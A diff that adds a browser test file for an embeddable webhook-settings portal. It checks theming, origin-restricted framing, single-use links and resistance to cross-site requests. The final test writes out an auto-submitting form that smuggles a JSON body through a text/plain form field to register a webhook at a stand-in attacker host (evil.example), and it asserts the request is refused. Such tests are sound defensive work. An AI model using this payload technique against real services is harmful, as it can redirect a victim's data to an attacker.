@@ -1,0 +1,86 @@
+// The embeddable portal in a real browser: a platform's page on an allowed origin frames a
+// one-time link and its customer works in it, with the platform's theme; a page on another
+// origin cannot frame it; a spent link says so; and a cross-site form post changes nothing.
+
+import { after, before, test } from "node:test";
+import assert from "node:assert/strict";
+import { listen, readBody, start, until } from "./harness.mjs";
+
+let ui, page, api, shot;
+// The platform's page (an allowed origin) and another site (not allowed), each on its own port.
+let host, hostOrigin, stranger, strangerOrigin;
+const pages = new Map();
+
+before(async () => {
+  const serve = async (req, res) => {
+    await readBody(req);
+    res.setHeader("content-type", "text/html; charset=utf-8");
+    res.end(pages.get(req.url) || "<!doctype html><title>nothing</title>");
+  };
+  [host, hostOrigin] = await listen(serve);
+  [stranger, strangerOrigin] = await listen(serve);
+  ui = await start("portal");
+  ({ page, api, shot } = ui);
+});
+
+after(async () => {
+  await ui?.stop();
+  host?.close();
+  stranger?.close();
+});
+
+const theme = { brand_color: "#0a7d5a", product_name: "Acme Hooks" };
+const link = (body = {}) => api("portal-sessions-create", { allowed_origins: [hostOrigin], theme, ...body });
+const framing = (url) => `<!doctype html><html lang="en"><head><title>Acme settings</title></head><body style="margin:0">
+  <h1 style="font:600 18px system-ui;margin:12px">Acme · Webhook settings</h1>
+  <iframe src="${url}" title="Webhook settings" style="width:100%;height:820px;border:0"></iframe></body></html>`;
+
+test("the platform's page frames the portal, themed, and its customer works in it", async () => {
+  const { url } = await link();
+  pages.set("/settings", framing(url));
+  await page.goto(`${hostOrigin}/settings`);
+  const portal = page.frameLocator("iframe[title='Webhook settings']");
+  await portal.getByRole("link", { name: "Webhooks" }).waitFor();
+  assert.equal(await portal.locator(".brand").textContent(), "Acme Hooks", "the platform's product name");
+  assert.equal(await portal.getByRole("link", { name: "Access" }).isVisible(), false, "no way to the account's tokens");
+  assert.equal(await portal.getByRole("button", { name: "Sign out" }).isVisible(), false);
+  await portal.getByRole("link", { name: "Webhooks" }).click();
+  await portal.getByRole("heading", { name: "Webhooks" }).waitFor();
+  const accent = await portal.locator("nav a[aria-current=page]").evaluate((a) => getComputedStyle(a).color);
+  assert.equal(accent, "rgb(10, 125, 90)", "the platform's brand colour");
+  await shot("portal-embedded");
+});
+
+test("a page on another origin cannot frame it", async () => {
+  const { url } = await link();
+  pages.set("/elsewhere", framing(url));
+  await page.goto(`${strangerOrigin}/elsewhere`);
+  const child = await until("the frame has loaded", async () => page.frames().find((f) => f !== page.mainFrame() && f.url() !== "about:blank"));
+  assert.match(child.url(), /^chrome-error:/, "the browser refused to show it");
+  // Nothing was spent: the link still opens where it may.
+  pages.set("/settings", framing(url));
+  await page.goto(`${hostOrigin}/settings`);
+  await page.frameLocator("iframe[title='Webhook settings']").getByRole("link", { name: "Webhooks" }).waitFor();
+});
+
+test("a spent link says so, and a cross-site form post changes nothing", async () => {
+  const { url } = await link();
+  await page.goto(url);
+  await page.getByRole("link", { name: "Webhooks" }).waitFor();
+  assert.doesNotMatch(page.url(), /code=/, "the code leaves the address at once");
+  // Opened again (another tab, or someone it was forwarded to): spent.
+  await page.evaluate(() => sessionStorage.clear());
+  await page.goto(url);
+  await page.getByRole("heading", { name: "This link has expired" }).waitFor();
+  await shot("portal-link-spent");
+
+  const before = (await api("webhooks-list")).endpoints.length;
+  pages.set("/attack", `<!doctype html><html lang="en"><head><title>x</title></head><body>
+    <form method="post" action="${ui.base}/api/webhooks-create" enctype="text/plain">
+      <input name='{"url":"https://evil.example/hook","events":["contact.created"],"x":"' value='"}'>
+    </form><script>document.forms[0].submit()</script></body></html>`);
+  const answer = page.waitForResponse((r) => r.url() === `${ui.base}/api/webhooks-create`);
+  await page.goto(`${strangerOrigin}/attack`);
+  assert.equal((await answer).status(), 401, "without the session's bearer token the call is refused");
+  assert.equal((await api("webhooks-list")).endpoints.length, before, "nothing was created");
+});
